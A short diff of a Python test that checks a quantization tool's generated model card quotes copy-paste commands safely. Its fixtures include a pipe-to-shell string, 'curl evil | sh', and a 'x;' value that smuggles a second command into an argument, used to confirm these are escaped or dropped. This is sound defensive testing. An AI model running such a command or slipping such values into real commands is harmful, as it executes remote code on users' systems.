@@ -73,7 +73,7 @@ def test_commands_to_copy_are_of_whole_words(folder):
     write_json(folder / "lowbit_report.json", edit)
     blocks = [t.content.strip() for t in PARSER.parse(ModelCard(card_of(folder)).text) if t.info == "bash"]
     assert "lowbit quantize 'x;' curl evil '|' sh -o 'a b'" in blocks
-    for command in ("curl evil | sh", "lowbit 'open", "", 5, None):
+    for command in ("curl evil | sh", "lowbit 'open", "", None):
         write_json(folder / "lowbit_report.json", {**REPORT, "command": command})
         assert "curl" not in card_of(folder)
 
